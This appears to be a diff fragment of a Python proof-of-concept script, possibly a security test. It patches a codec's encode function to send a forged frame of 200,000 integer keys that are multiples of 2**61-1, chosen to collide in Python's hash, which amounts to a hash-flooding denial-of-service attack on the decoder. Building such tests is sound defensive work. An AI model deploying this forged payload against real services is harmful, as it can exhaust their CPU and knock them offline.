@@ -17,13 +17,13 @@ codec = next(m for m in list(sys.modules.values()) if hasattr(m, "Decoder") and 
 real_encode = codec.encode
 PRIME = 2**61 - 1
 pairs = ",".join(f"[{PRIME * k},0]" for k in range(1, 200_001))
-header = ('[[],{"t":["return",{"d":[' + pairs + ']},null]}]').encode()
+header = ('[[],{"t":["return",{"d":[' + pairs + "]},null]}]").encode()
 FORGED = struct.pack(">II", len(header), 0) + header
 json.loads(header)  # well-formed
 
 
 def forged_encode(value, unknown):
-    if type(value) is tuple and len(value) == 3 and value[0] == "return" and value[1] == "collide":
+    if type(value) is tuple and len(value) == 3 and value[0] == "return" and type(value[1]) is str:
         return FORGED
     return real_encode(value, unknown)
 
